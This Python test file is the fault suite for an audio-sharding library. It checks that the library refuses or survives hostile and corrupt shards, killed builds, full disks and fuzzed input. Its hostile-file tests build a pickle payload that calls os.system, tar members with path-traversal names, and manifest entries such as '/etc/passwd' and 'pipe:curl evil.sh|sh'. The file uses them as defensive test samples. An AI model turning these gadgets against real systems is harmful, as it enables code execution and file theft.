"""The fault suite: hostile files, corrupt data, interrupted work, bad configuration, fuzzing.

Each test is one fault; docs/reliability.md's table maps every fault to its behaviour and to the
test here (or in test_http.py / test_stream.py / test_train.py / test_config.py) that proves it.
Network faults against a real HTTP server live in test_http.py.
"""

from __future__ import annotations

import io
import json
import math
import os
import resource
import shutil
import signal
import subprocess
import sys
import tarfile
import threading
import time
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf
import torch
from conftest import SMALL_BUILD, TINY_TRAIN, children, chunk_table, copy_build, fill_disk, link_tree, reseal
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audioshard.audio import AudioError, decode
from audioshard.build import BuildError, build_shards
from audioshard.checkpoint import CheckpointError, save_checkpoint
from audioshard.config import ConfigError, load_config
from audioshard.info import verify_build
from audioshard.manifest import ManifestError, load_manifest, sha256_file
from audioshard.remote import Fetcher, SourceError
from audioshard.shardfile import ShardDataError, decode_block
from audioshard.stream import ShardStream
from audioshard.train import train


class Payload:
    """Unpickling this creates `marker`: proof that something unpickled it."""

    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def rewrite_shard(shard: Path, edit) -> None:
    """Rewrite a tar shard member by member: `edit(name, data) -> list of (name, data)`."""
    with tarfile.open(shard) as src:
        members = [(m.name, src.extractfile(m).read()) for m in src.getmembers()]
    with tarfile.open(shard, "w") as dst:
        for name, data in members:
            for new_name, new_data in edit(name, data):
                info = tarfile.TarInfo(new_name)
                info.size = len(new_data)
                dst.addfile(info, io.BytesIO(new_data))


def npy(array: np.ndarray) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def read_split(build: Path, split: str, strict: bool = False):
    stream = ShardStream(load_manifest(build), split, 10_000, strict=strict)
    return sum(len(b.y) for b in stream), stream.skipped_blocks


# --- hostile files ---------------------------------------------------------------------------


def test_npy_with_object_dtype_is_never_unpickled(real_build, tmp_path):
    build = copy_build(real_build, tmp_path)
    marker = tmp_path / "pwned"
    evil = npy(np.array([Payload(marker)], dtype=object))
    rewrite_shard(build / "val-000000.tar", lambda n, d: [(n, evil if n.endswith("label.npy") else d)])
    reseal(build, "val")
    read, skipped = read_split(build, "val")
    assert skipped >= 1 and not marker.exists()


def test_tar_members_with_absolute_or_parent_paths_are_never_written(real_build, tmp_path):
    build = copy_build(real_build, tmp_path)
    outside = tmp_path / "escaped"
    evil_names = [str(outside / "abs.mel.npy"), "../../escaped.mel.npy", "../x/../../y.label.npy"]
    rewrite_shard(build / "val-000000.tar",
                  lambda n, d: [(n, d)] + ([(name, b"\x93NUMPY junk") for name in evil_names] if "000000.mel" in n
                                           else []))
    reseal(build, "val")
    before = set(os.listdir(tmp_path)) | set(os.listdir(tmp_path.parent))
    read, _ = read_split(build, "val")
    assert read > 0 and not outside.exists()
    assert set(os.listdir(tmp_path)) | set(os.listdir(tmp_path.parent)) == before  # nothing written anywhere


def test_manifest_paths_escaping_the_root_are_refused(real_build, tmp_path):
    build = copy_build(real_build, tmp_path)
    data = json.loads((build / "manifest.json").read_text())
    for name in ("../secret.tar", "/etc/passwd", "pipe:curl evil.sh|sh", "a/../../b.tar"):
        data["splits"]["val"]["shards"][0]["file"] = name
        (build / "manifest.json").write_text(json.dumps(data))
        with pytest.raises(ManifestError, match="points outside"):
            load_manifest(build)


def test_pipe_and_other_schemes_are_never_run(tmp_path):
    marker = tmp_path / "ran"
    for location in (f"pipe:touch {marker}", "gs://bucket/x.tar", "file:///etc/passwd"):
        with pytest.raises(SourceError, match=r"only local paths, http\(s\):// and s3:// URLs"):
            Fetcher().read(location)
    assert not marker.exists()


def test_pickled_checkpoint_is_refused_by_resume(real_build, tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    marker = tmp_path / "pwned"
    torch.save({"format": "audioshard-checkpoint", "model": Payload(marker)}, run / "last.pt")
    with pytest.raises(CheckpointError, match="never loads"):
        train(str(real_build), run, load_config(overrides=TINY_TRAIN), resume=True, progress=False)
    assert not marker.exists()


# --- corrupt data ----------------------------------------------------------------------------


def test_truncated_local_shard_is_skipped_counted_and_fatal_when_strict(real_build, tmp_path):
    build = copy_build(real_build, tmp_path)
    shard = build / "train-000000.tar"
    shard.write_bytes(shard.read_bytes()[:5000])
    total = load_manifest(build).samples("train")
    read, skipped = read_split(build, "train")
    assert skipped == 1 and read == total - load_manifest(build).shards("train")[0].samples
    with pytest.raises(ShardDataError, match="train-000000.tar: .* bytes, the manifest says"):
        read_split(build, "train", strict=True)
    good, report = verify_build(str(build))
    assert not good and "train-000000.tar" in report


def test_shard_cut_at_a_member_boundary_is_caught_by_counts(real_build, tmp_path):
    """Cut after whole blocks, and even with a manifest resealed to the new size and sha256."""
    build = copy_build(real_build, tmp_path)
    shard = build / "train-000000.tar"
    with tarfile.open(shard) as src:
        keep = [(m, src.extractfile(m).read()) for m in src.getmembers()][:4]  # the first block's 4 members
    with tarfile.open(shard, "w") as dst:
        for member, data in keep:
            dst.addfile(member, io.BytesIO(data))
    assert read_split(build, "train")[1] == 1  # size and sha256 differ from the manifest
    reseal(build, "train")
    manifest = load_manifest(build)
    read, skipped = read_split(build, "train")
    assert skipped == 1 and read == manifest.samples("train") - manifest.shards("train")[0].samples + 8
    with pytest.raises(ShardDataError, match=r"read 1 blocks \(8 chunks\) where the manifest promises 4 \(32"):
        read_split(build, "train", strict=True)


@pytest.mark.parametrize("member, payload, message", [
    ("mel.npy", b"this is not an array", "not an .npy array"),
    ("mel.npy", npy(np.full((8, 64, 63), np.nan, np.float16)), "NaN or infinite"),
    ("mel.npy", npy(np.zeros((8, 64, 63), np.float32)), "dtype"),
    ("mel.npy", npy(np.zeros((8, 32, 63), np.float16)), "shape"),
    ("label.npy", npy(np.full(8, 99, np.int16)), "label out of range"),
    ("start.npy", npy(np.zeros(3, np.float32)), "members disagree"),
])
def test_bad_members_are_reported_with_shard_and_key_and_counted(real_build, tmp_path, capsys, member, payload,
                                                                 message):
    build = copy_build(real_build, tmp_path)
    rewrite_shard(build / "val-000000.tar",
                  lambda n, d: [(n, payload if n == f"val-00000000.{member}" else d)])
    reseal(build, "val")
    read, skipped = read_split(build, "val")
    assert skipped == 1 and read == load_manifest(build).samples("val") - 8
    err = capsys.readouterr().err
    assert "val-000000.tar" in err and "val-00000000" in err and message in err


def test_thousands_of_bad_blocks_do_not_stall(real_build, tmp_path, capsys):
    build = copy_build(real_build, tmp_path)
    bad = [(f"val-9{i:07d}.{m}", b"junk") for i in range(3000) for m in ("mel.npy", "label.npy", "source.npy",
                                                                        "start.npy")]
    rewrite_shard(build / "val-000000.tar", lambda n, d: [(n, d)] + (bad if n == "val-00000000.start.npy" else []))
    reseal(build, "val")
    started = time.time()
    read, skipped = read_split(build, "val")
    assert time.time() - started < 10 and read == load_manifest(build).samples("val")
    assert skipped == 3001  # each bad block, plus the shard for holding more blocks than the manifest says
    assert capsys.readouterr().err.count("skipping") <= 21  # reported, then counted, not printed 3000 times


def test_skipped_blocks_reach_the_run_metrics(real_build, tmp_path):
    build = copy_build(real_build, tmp_path)
    rewrite_shard(build / "train-000001.tar",
                  lambda n, d: [(n, b"garbage" if n.endswith(".mel.npy") and "0004" in n else d)])
    reseal(build, "train", 1)
    metrics = train(str(build), tmp_path / "run", load_config(overrides=TINY_TRAIN), progress=False)
    assert metrics["skipped_blocks"] == {"train": 3, "val": 0, "test": 0}  # one bad block, met once per epoch
    history = [json.loads(line) for line in (tmp_path / "run" / "history.jsonl").read_text().splitlines()]
    assert [h["skipped_blocks_train"] for h in history] == [1, 1, 1]


# --- interrupted work and full disks ----------------------------------------------------------


def cli(*args, **kwargs) -> subprocess.Popen:
    return subprocess.Popen([sys.executable, "-m", "audioshard", *map(str, args)], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, **kwargs)


def wait_for(predicate, timeout: float = 120.0) -> bool:
    deadline = time.time() + timeout
    while time.time() < deadline:
        if predicate():
            return True
        time.sleep(0.02)
    return False


def test_kill_9_during_build_then_rerun_finishes_cleanly(tmp_path):
    raw = link_tree(tmp_path / "raw", {"drone": 10, "car": 8, "speech": 10})
    out = tmp_path / "out"
    proc = cli("build", raw, "--out", out, "--workers", "1", "--quiet", *[a for s in SMALL_BUILD
                                                                          for a in ("--set", s)])
    assert wait_for(lambda: any((out / ".staging").glob("*.tar")) or proc.poll() is not None)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    assert not (out / "manifest.json").exists()  # a killed build never leaves a manifest
    cfg = load_config(overrides=SMALL_BUILD)
    build_shards(raw, out, cfg, workers=1, progress=False)
    build_shards(raw, tmp_path / "clean", cfg, workers=1, progress=False)
    assert chunk_table(out) == chunk_table(tmp_path / "clean")  # nothing duplicated or missing
    assert not (out / ".staging").exists() and verify_build(str(out))[0]


def test_build_worker_killed_stops_the_build_with_a_clear_error(tmp_path):
    """A worker killed mid-build (as the OOM killer would: SIGKILL from outside) ends the build with an
    error saying what happened, not a hang, and the previous build stays as it was."""
    raw = link_tree(tmp_path / "raw", {"drone": 30, "car": 20, "speech": 30})
    cfg = load_config(overrides=SMALL_BUILD)
    before = build_shards(raw, tmp_path / "out", cfg, workers=2, progress=False).manifest
    killed: list[int] = []

    def kill_first_worker():  # a child of this process appears when the pool starts
        deadline = time.monotonic() + 30
        while not killed and time.monotonic() < deadline:
            for pid in children(os.getpid()):
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
                break
            time.sleep(0.002)

    killer = threading.Thread(target=kill_first_worker)
    killer.start()
    started = time.monotonic()
    try:
        with pytest.raises(BuildError, match="worker process died"):
            build_shards(raw, tmp_path / "out", cfg, workers=2, force=True, progress=False)
    finally:
        killer.join()
    assert killed and time.monotonic() - started < 60
    assert json.loads((tmp_path / "out" / "manifest.json").read_text()) == before
    assert not (tmp_path / "out" / ".staging").exists()


def test_an_error_inside_a_build_helper_is_reported_with_its_traceback(tmp_path, monkeypatch):
    """A bug or MemoryError in a helper process (not in one file's decoding, which is skipped) stops the
    build with the helper's traceback, and leaves no staging folder or manifest."""
    import audioshard.build as build_module

    raw = link_tree(tmp_path / "raw", {"drone": 6, "car": 5, "speech": 6})
    builder = os.getpid()
    process_files = build_module.process_files

    def failing_in_helpers(sources, cfg):
        if os.getpid() != builder:
            raise MemoryError("pretend the helper ran out of memory")
        time.sleep(0.05)  # leaves tasks for the helper to claim
        return process_files(sources, cfg)

    monkeypatch.setattr(build_module, "FILES_PER_TASK", 1)
    monkeypatch.setattr(build_module, "process_files", failing_in_helpers)
    with pytest.raises(BuildError, match="(?s)a build worker process failed.*MemoryError: pretend"):
        build_shards(raw, tmp_path / "out", load_config(overrides=SMALL_BUILD), workers=2, progress=False)
    assert not (tmp_path / "out" / "manifest.json").exists() and not (tmp_path / "out" / ".staging").exists()
    assert not children(os.getpid())  # the helper is gone


def test_kill_9_during_training_then_resume(real_build, tmp_path):
    run = tmp_path / "run"
    overrides = [a for s in [*TINY_TRAIN, "train.epochs=5"] for a in ("--set", s)]
    proc = cli("train", "--shards", real_build, "--out", run, "--quiet", *overrides)
    assert wait_for(lambda: (run / "last.pt").exists())
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    done = len((run / "history.jsonl").read_text().splitlines())
    assert done < 5
    resumed = cli("train", "--shards", real_build, "--out", run, "--quiet", "--resume", *overrides)
    out, _ = resumed.communicate(timeout=600)
    assert resumed.returncode == 0, out
    epochs = [json.loads(line)["epoch"] for line in (run / "history.jsonl").read_text().splitlines()]
    assert epochs == [1, 2, 3, 4, 5] and (run / "metrics.json").exists()


def test_checkpoint_write_on_a_full_disk_keeps_the_previous_one(small_disk):
    path = small_disk / "last.pt"
    save_checkpoint(path, {"epoch": 1, "w": torch.ones(3)})
    fill_disk(small_disk, leave=64 << 10)
    # a real ENOSPC, which torch.save reports as a RuntimeError
    with pytest.raises(CheckpointError, match="writing .*last.pt failed .*previous last.pt .* is intact"):
        save_checkpoint(path, {"epoch": 2, "w": torch.zeros(1 << 20)})
    assert torch.load(path, weights_only=True)["epoch"] == 1
    assert sorted(p.name for p in small_disk.iterdir()) == ["filler", "last.pt"]  # no temporary file left behind


def test_disk_full_during_build_keeps_the_previous_build(tmp_path):
    raw = link_tree(tmp_path / "raw", {"drone": 6, "car": 5, "speech": 6})
    out = tmp_path / "out"
    build_shards(raw, out, load_config(), workers=1, progress=False)
    before = {p.name: sha256_file(p) for p in out.iterdir()}

    def limit_file_size():  # a write past 64 KB fails with EFBIG, like a full disk
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 10, 64 << 10))

    proc = subprocess.run([sys.executable, "-m", "audioshard", "build", str(raw), "--out", str(out), "--force",
                           "--workers", "2", "--quiet", "--set", "features.n_mels=32"],
                          capture_output=True, text=True, preexec_fn=limit_file_size, timeout=300)
    assert proc.returncode == 2 and "writing the build failed" in proc.stderr and "Traceback" not in proc.stderr
    assert "nothing in" in proc.stderr and "was replaced" in proc.stderr
    assert {p.name: sha256_file(p) for p in out.iterdir()} == before
    assert verify_build(str(out))[0]


# --- bad configuration ------------------------------------------------------------------------


def test_chunk_longer_than_every_clip_is_explained(tmp_path):
    raw = tmp_path / "raw"
    for label in ("a", "b"):
        (raw / label).mkdir(parents=True)
        for i in range(3):
            sf.write(raw / label / f"{i}.wav", 0.3 * np.sin(np.arange(8000) * (0.1 + i)), 16000)
    manifest = build_shards(raw, tmp_path / "out", load_config(overrides=["audio.chunk_seconds=5"]), workers=1,
                            progress=False).manifest
    assert any("longer than every clip" in w for w in manifest["warnings"])
    with pytest.raises(BuildError, match="nothing usable"):
        build_shards(raw, tmp_path / "out2", load_config(overrides=["audio.chunk_seconds=5",
                                                                    "audio.short_clip=drop"]),
                     workers=1, progress=False)


def test_more_workers_than_shards_still_reads_everything_once(real_build):
    manifest = load_manifest(real_build)
    from audioshard.loader import make_loader

    loader = make_loader(ShardStream(manifest, "val", 4), num_workers=4)  # val has fewer shards than 4
    assert len(manifest.shards("val")) < 4
    ids = [(int(s), float(t)) for b in loader for s, t in zip(b.source, b.start, strict=True)]
    assert len(ids) == len(set(ids)) == manifest.samples("val")


# --- fuzzing ----------------------------------------------------------------------------------

FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@FUZZ
@given(data=st.binary(max_size=4096), ext=st.sampled_from([".wav", ".flac", ".ogg", ".mp3"]))
def test_fuzz_random_bytes_as_audio(tmp_path_factory, data, ext):
    path = tmp_path_factory.mktemp("fuzz") / f"x{ext}"
    path.write_bytes(b"RIFF" + data if ext == ".wav" and data[:1] == b"\0" else data)
    try:
        samples, rate = decode(path)
    except AudioError as exn:
        assert str(path) in str(exn)
    else:
        assert samples.dtype == np.float32 and rate > 0


@FUZZ
@given(members=st.dictionaries(st.sampled_from(["mel.npy", "label.npy", "source.npy", "start.npy"]),
                               st.one_of(st.binary(max_size=512),
                                         st.binary(max_size=200).map(lambda b: b"\x93NUMPY\x01\x00" + b))))
def test_fuzz_random_tar_members(real_build, members):
    manifest = load_manifest(real_build)
    try:
        decode_block({"__url__": "fuzz.tar", "__key__": "k", **members}, manifest)
    except ShardDataError as exn:
        assert "fuzz.tar key k" in str(exn)


@FUZZ
@given(value=st.one_of(st.integers(), st.floats(allow_nan=True), st.text(max_size=20), st.booleans(),
                       st.lists(st.integers(), max_size=3)),
       key=st.sampled_from(["train.lr", "train.epochs", "audio.sample_rate", "audio.chunk_seconds",
                            "features.n_fft", "model.name", "augment.enabled", "shards.block_size",
                            "split.val_fraction", "audio.extensions", "train.bogus", "nope.x"]))
def test_fuzz_config_values(key, value):
    text = repr(value) if isinstance(value, float) else json.dumps(value)  # floats as TOML: nan, inf, -inf
    try:
        cfg = load_config(overrides=[f"{key}={text}"])
    except ConfigError as exn:
        assert key.split(".")[0] in str(exn) or "=" in str(exn)
    else:
        assert cfg.train.lr > 0 and cfg.audio.sample_rate > 0
        floats = [v for section in cfg.to_dict().values() for v in section.values() if isinstance(v, float)]
        assert all(map(math.isfinite, floats))


@FUZZ
@given(data=st.binary(min_size=1, max_size=8192))
def test_fuzz_random_bytes_as_a_whole_shard(real_build, tmp_path_factory, data):
    build = tmp_path_factory.mktemp("fz") / "b"
    shutil.copytree(real_build, build)
    (build / "val-000000.tar").write_bytes(data)
    reseal(build, "val")
    read, skipped = read_split(build, "val")
    assert skipped >= 1
